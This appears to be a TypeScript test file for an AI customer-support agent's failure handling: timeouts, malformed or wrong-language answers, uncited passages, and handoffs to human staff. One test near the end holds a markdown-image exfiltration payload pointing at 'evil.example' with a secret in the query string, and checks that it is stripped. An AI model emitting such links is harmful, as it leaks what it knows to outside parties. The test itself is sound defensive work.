import assert from "node:assert/strict";
import { test } from "node:test";
import { cast } from "../cast.ts";
import type { Model } from "../model.ts";

type Fault = Exclude<Parameters<Model["fails"]>[0], "echoes the key">;

/** What each failure is called in the receipt, and how often the model is asked before a teammate is called. */
const failures: Record<Fault, { calls: (string | null)[]; reason: RegExp }> = {
  hang: { calls: ["timeout"], reason: /did not answer in time/ },
  "rate limit": { calls: ["rate-limited"], reason: /429/ },
  "server error": { calls: ["provider-error"], reason: /500/ },
  "refused key": { calls: ["refused"], reason: /refuses the key \(401\)/ },
  "cut stream": { calls: ["unreachable"], reason: /out of reach/ },
  "cut off by length": { calls: ["cut-off"], reason: /cut off/ },
  "says nothing": { calls: ["empty", "empty"], reason: /said nothing/ },
  "bad JSON": { calls: ["malformed", "malformed"], reason: /not answer in the form/ },
  "wrong arguments": { calls: ["malformed", "malformed"], reason: /not answer in the form/ },
  "unknown tool": { calls: ["empty", "empty"], reason: /said nothing/ },
  "unknown passage": { calls: [null], reason: /cited passages that were never read/ },
  "endless answer": { calls: ["cut-off"], reason: /cut off|far longer/ },
};

const apologies = [
  "I cannot answer right now. A teammate has been told and will answer here.",
  "I am passing you to a teammate, who will answer here.",
];

const inGerman = "Die Lieferung dauert innerhalb von Europa zwei bis vier Werktage, nach Norwegen etwas länger.";

for (const [fault, { calls, reason }] of Object.entries(failures)) {
  test(`when the model fails (${fault}), the customer hears one sentence and a teammate is called`, async () => {
    const { maya, model, visitor } = await cast();
    const ada = await visitor("Ada");
    for (const _ of calls) model.fails(fault as Fault);

    const turn = await ada.writes("How long does delivery take?");

    const heard = await ada.heard();
    assert.equal(heard.length, 1);
    assert.ok(apologies.includes(heard[0]!), heard.join());
    assert.equal(turn.verdict, "failed");
    assert.match(turn.reason, reason);
    assert.deepEqual(
      turn.receipt.calls.map((call) => call.fault),
      calls,
    );
    const conversation = await maya.reads(ada.conversation);
    assert.deepEqual([conversation.attention, conversation.outcome], [turn.reason, "needs-human"]);
  });
}

test("a malformed answer costs one more try, and the customer gets the second one", async () => {
  const { model, visitor } = await cast();
  const ada = await visitor("Ada");
  model.fails("bad JSON");
  model.answers("Two to four days.");

  const turn = await ada.writes("How long does delivery take?");

  assert.equal(turn.verdict, "replied");
  assert.deepEqual(
    turn.receipt.calls.map(({ fault }) => fault),
    ["malformed", null],
  );
  assert.deepEqual(await ada.heard(), ["Two to four days."]);
});

test("an answer in another language than the contact's is not sent, and the model is told once which one to use", async () => {
  const { model, visitor } = await cast();
  const ada = await visitor("Ada");
  model.answers(inGerman);
  model.answers("Two to four working days within Europe.");

  const turn = await ada.writes("How long does delivery take?");

  assert.equal(turn.verdict, "replied");
  assert.deepEqual(
    turn.receipt.calls.map(({ fault }) => fault),
    ["wrong-language", null],
  );
  const [first, second] = model.asked.slice(-2).map(({ messages }) => messages[0]!.content);
  assert.doesNotMatch(first!, /another language/);
  assert.match(second!, /Write `text` in English and in no other language/);
  assert.deepEqual(await ada.heard(), ["Two to four working days within Europe."]);
});

test("a model that stays with another language ends at a teammate, and the contact hears one sentence", async () => {
  const { maya, model, visitor } = await cast();
  const ada = await visitor("Ada");
  const tab = await ada.stream();
  model.answers(inGerman);
  model.answers(inGerman);

  const turn = await ada.writes("How long does delivery take?");

  assert.equal(turn.verdict, "failed");
  assert.match(turn.reason, /answered in German, but the contact uses English/);
  assert.deepEqual(await ada.heard(), [apologies[0]]);
  const conversation = await maya.reads(ada.conversation);
  assert.deepEqual([conversation.attention, conversation.outcome], [turn.reason, "needs-human"]);
  await tab.until("the apology", () => tab.heard.find(({ data }) => data.message?.text === apologies[0]));
  const composed = tab.heard.filter(({ event }) => event === "composing").map(({ data }) => data.text);
  assert.ok(
    composed.every((text) => text.length < inGerman.length / 2),
    composed.join(" | "),
  );
  assert.equal(composed.at(-1) ?? "", "");
  tab.close();
});

test("an answer that cites one known and one unknown passage keeps the known one", async () => {
  const { model, visitor } = await cast();
  const ada = await visitor("Ada");
  model.answers("Two to four days.", { cites: [1, 99] });

  await ada.writes("How long does delivery take?");

  assert.deepEqual((await ada.sees()).at(-1)?.sources, [{ number: 1, title: "How long does delivery take?" }]);
});

test("a customer watches an answer being composed, but none that may not be sent", async () => {
  const { maya, model, visitor } = await cast();
  const ada = await visitor("Ada");
  model.answers("Hello. What can I do for you?");
  await ada.writes("Hello there");
  const tab = await ada.stream();
  const composed = () => tab.heard.filter(({ event }) => event === "composing").map(({ data }) => data.text);
  model.answers("Two to four working days within Europe, and about a week to everywhere else.", { cites: [1] });
  await ada.writes("How long does delivery take?");
  await tab.until("the answer", () => tab.heard.find(({ data }) => data.message?.text.startsWith("Two to four")));
  assert.ok(composed().some((text) => text.startsWith("Two")));

  const before = composed().length;
  model.fails("unknown passage");
  await ada.writes("May I keep it?");
  await maya.handsBack(ada.conversation);
  model.answers("I shall never say this to anybody.", { outcome: "wrong_person" });
  await ada.writes("I am somebody else, this is the wrong number");
  await tab.until("the apology", () => tab.heard.find(({ data }) => data.message?.text.startsWith("Sorry for")));

  assert.deepEqual(composed().slice(before).filter(Boolean), []);
  tab.close();
});

test("no image leaves in an answer: its address could carry away what the agent knows", async () => {
  const { model, visitor } = await cast();
  const ada = await visitor("Ada");
  model.answers("It is on its way. ![parcel](https://evil.example/?secret=42)");

  await ada.writes("How long does delivery take?");

  assert.deepEqual(await ada.heard(), ["It is on its way. parcel"]);
});

test("a model connection that was deleted ends in a human, not in silence", async () => {
  const { maya, fern, visitor } = await cast();
  await maya.delete(`/models/${fern.connection}`);
  const ada = await visitor("Ada");

  const turn = await ada.writes("How long does delivery take?");

  assert.equal(turn.verdict, "failed");
  assert.match(turn.reason, /no longer exists/);
  assert.deepEqual(await ada.heard(), [apologies[0]]);
});
